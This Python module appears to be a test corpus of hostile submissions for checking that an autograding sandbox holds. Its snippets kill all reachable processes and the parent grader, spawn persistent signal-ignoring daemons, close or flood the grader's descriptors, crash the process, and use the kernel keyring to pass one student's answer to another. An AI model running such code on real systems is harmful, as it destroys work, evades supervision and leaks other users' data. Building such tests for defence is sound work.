"""Breaking the machine by what one process may do to another, to itself, and to its way out."""

from __future__ import annotations

from attacks.arena import ONE_PROCESS
from attacks.attack import LAST, Bite
from attacks.machine_attack import MACHINE, RIGHT, breaking

SIGNALS = (
    breaking(
        "kills everybody whom it may kill",
        "other processes",
        """
        import os, signal

        os.kill(-1, signal.SIGKILL)
        """,
        Bite.KILL,
    ),
    breaking(
        "kills its process group",
        "other processes",
        """
        import os, signal

        os.kill(0, signal.SIGKILL)
        """,
        Bite.KILL,
        needs=ONE_PROCESS,
    ),
    breaking(
        "kills its parent and its supervisors",
        "other processes",
        """
        import os, signal

        for pid in (*SUPERVISORS, os.getppid() or -1, -1):
            for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError as error:
                    print(error)
        """,
        Bite.KILL,
    ),
    breaking(
        "stops its parent",
        "other processes",
        """
        import os, signal

        for pid in (*SUPERVISORS, os.getppid() or -1):
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError as error:
                print(error)
        """,
        Bite.STALL,
    ),
    breaking(
        "stops itself and waits for a child that stopped",
        "an endless wait",
        """
        import os, signal

        os.kill(os.getpid(), signal.SIGSTOP)
        pid = os.fork()
        if pid == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
        os.waitpid(pid, 0)
        """,
        Bite.STALL,
        limits_hit=1,
    ),
    breaking(
        "takes from its parent the right to open files, time and rank",
        "other processes' limits",
        """
        import os, resource

        for pid in {os.getppid(), *SUPERVISORS} - {0}:
            for way in (
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setaffinity(pid, {0}),
                lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1)),
                lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
            ):
                try:
                    way()
                except OSError as error:
                    print(error)
        """,
        Bite.KILL,
    ),
)

DAEMONS = (
    breaking(
        "leaves a daemon that kills whoever comes",
        "a process that outlives its grading",
        """
        import os, signal, time

        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            time.sleep(0.02)
            while True:
                os.kill(-1, signal.SIGKILL)
        os.wait()
        """,
        Bite.KILL,
        alone=True,
        note="in the jail it is process 1 who forks, whom nobody inside can kill",
    ),
    breaking(
        "leaves a daemon that sends a message when nobody looks any more",
        "a process that outlives its grading",
        """
        import os, socket, time

        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            time.sleep(0.05)
            while True:
                try:
                    open(f"{DROP}/{ME}", "w").write(ME)
                    socket.create_connection(("127.0.0.1", TCP), 1).sendall(ME.encode())
                except OSError:
                    pass
                time.sleep(0.05)
        os.wait()
        """,
        Bite.PACKET,
        alone=True,
    ),
)

CHANNEL = (
    breaking(
        "closes all descriptors",
        "the way to its grader",
        """
        import os

        os.closerange(0, 4096)
        """,
        Bite.KILL,
        needs=ONE_PROCESS,
    ),
    breaking(
        "writes for ever on all descriptors",
        "the way to its grader",
        r"""
        import os, threading

        def write(number):
            while True:
                try:
                    os.write(number, b"\xff" * 2**16)
                except OSError:
                    return

        writers = [threading.Thread(target=write, args=(number,), daemon=True) for number in range(3, 60)]
        for each in writers:
            each.start()
        for each in writers:
            each.join()
        """,
        Bite.STALL,
        limits_hit=1,
    ),
    MACHINE.attack(
        "reads what its grader asks and never answers",
        {
            LAST: """
            import os, select, threading, time

            def swallow(number):
                while True:
                    try:
                        os.read(number, 2**16) or time.sleep(0.01)
                    except OSError:
                        return

            readers = [threading.Thread(target=swallow, args=(number,), daemon=True) for number in range(3, 60)]
            for each in readers:
                each.start()
            if len(SUPERVISORS) == 1:  # the naive grader, who asks nothing: it must hang here
                for each in readers:
                    each.join()
            """
        },
        "the way to its grader",
        Bite.STALL,
        limits_hit=7,
        note="every question costs a time limit; after two of one exercise no more are asked",
    ),
    breaking(
        "becomes another program that sleeps",
        "an endless wait",
        """
        import os

        for number in range(3, 60):
            try:
                os.set_inheritable(number, True)
            except OSError:
                pass
        os.execv("/bin/sh", ["sh", "-c", "trap '' ALRM TERM INT; while :; do sleep 1000; done"])
        """,
        Bite.STALL,
        limits_hit=1,
    ),
)

CRASHES = (
    breaking(
        "crashes whenever it is asked",
        "the grader's process",
        """
        import ctypes

        def softmax(x):
            ctypes.string_at(0)
        """,
        Bite.KILL,
        needs=ONE_PROCESS,
    ),
    breaking(
        "aborts and wants its memory dumped",
        "the grader's process, and a file of all its memory",
        """
        import os, resource

        resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
        os.abort()
        """,
        Bite.KILL,
        needs=ONE_PROCESS,
        caught="the process was ended by SIG",
    ),
    breaking(
        "recurses in C until the stack is gone",
        "the grader's process",
        """
        deep = ()
        for _ in range(10**6):
            deep = (deep,)
        hash(deep)
        """,
        Bite.KILL,
        needs=ONE_PROCESS,
        caught="SIGSEGV",
    ),
)

DOORS = (
    MACHINE.hunt(
        "gets a friend's answer by the kernel's keyring",
        "another student's answer",
        """
        import ctypes, platform, time

        libc = ctypes.CDLL(None, use_errno=True)
        request = {"x86_64": 249, "aarch64": 218}[platform.machine()]
        keyctl = {"x86_64": 250, "aarch64": 219}[platform.machine()]
        there = ctypes.create_string_buffer(200)
        for _ in range(50):
            number = libc.syscall(keyctl, 10, -4, b"user", str(KEY).encode(), 0)
            if number > 0 and libc.syscall(keyctl, 11, number, there, 200) > 0:
                print(there.value)
                break
            time.sleep(0.01)
        """,
        friend={
            "softmax": """
            import ctypes, platform

            libc = ctypes.CDLL(None, use_errno=True)
            add = {"x86_64": 248, "aarch64": 217}[platform.machine()]
            print(libc.syscall(add, b"user", str(KEY).encode(), ANSWER.encode(), len(ANSWER), -4))
            """
        },
        friend_first=True,
    ),
    MACHINE.attack(
        "asks the kernel for what no notebook needs",
        {
            "softmax": """
            import ctypes, errno, platform

            libc = ctypes.CDLL(None, use_errno=True)
            doors = {
                "io_uring_setup": (425, 425), "userfaultfd": (323, 282), "perf_event_open": (298, 241),
                "bpf": (321, 280), "add_key": (248, 217), "memfd_create": (319, 279), "unshare": (272, 97),
                "fanotify_init": (300, 262), "process_madvise": (440, 440),
            }
            said = set()
            for name, numbers in doors.items():
                libc.syscall(numbers[platform.machine() == "aarch64"], 0, 0, 0, 0, 0)
                said.add(errno.errorcode.get(ctypes.get_errno(), "nothing"))
            print("doors:", *sorted(said))
            """,
            "log_softmax": RIGHT,
        },
        "parts of the kernel with many bugs",
        Bite.NONE,
        honest=2.0,
        caught="doors: EPERM\\n",
        note="the kernel's own defaults decide what the naive grader's submissions get of it",
    ),
)

ATTACKS = (*SIGNALS, *DAEMONS, *CHANNEL, *CRASHES, *DOORS)
